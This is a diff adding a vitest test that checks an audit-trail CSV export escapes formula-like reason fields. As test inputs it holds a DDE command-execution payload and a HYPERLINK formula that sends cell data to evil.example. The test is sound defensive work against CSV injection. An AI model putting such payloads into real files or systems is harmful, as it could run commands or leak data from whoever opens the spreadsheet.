@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { approvalFor, decideAs, runStep, startAs, submit } from '../support/fixtures.js';
 import { settledFootprint } from '../support/observe.js';
@@ -372,6 +373,27 @@ describe('the audit trail', () => {
         line.includes('STEP_DECIDED,group-vote,group.HOABINH-01,group_leader,group:HOABINH-01,approve'),
       ),
     ).toBe(true);
+  });
+
+  it('exports a reason that looks like a formula as text, never as a live formula', async () => {
+    const created = await submit(stack);
+    const vote = { ...approvalFor('group-vote'), reason: "@SUM(1+1)*cmd|' /C calc'!A0" };
+    await runStep(stack, created.id, 'group-vote', vote);
+    const link = '=HYPERLINK("http://evil.example/?x="&A1,"Xem hồ sơ")';
+    const withdrawn = await stack.api('POST', `/api/applications/${created.id}/withdraw`, {
+      body: { citizenId: created.citizenId, reason: link },
+    });
+    expect(withdrawn.status, JSON.stringify(withdrawn.body)).toBe(200);
+    await settledFootprint(stack, created.id);
+    const token = await stack.login('ward.HOABINH');
+
+    const csv = await stack.api('GET', `/api/applications/${created.id}/audit?format=csv`, { token });
+
+    const [header = [], ...rows] = parse((csv.body as string).replace(/^\uFEFF/, '')) as string[][];
+    const reasons = rows.map((row) => row[header.indexOf('reason')]).filter(Boolean);
+    expect(reasons).toEqual(expect.arrayContaining([`'${vote.reason}`, `'${link}`]));
+    const cells = rows.flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
   it('is append-only: the database refuses to change or delete audit rows', async () => {
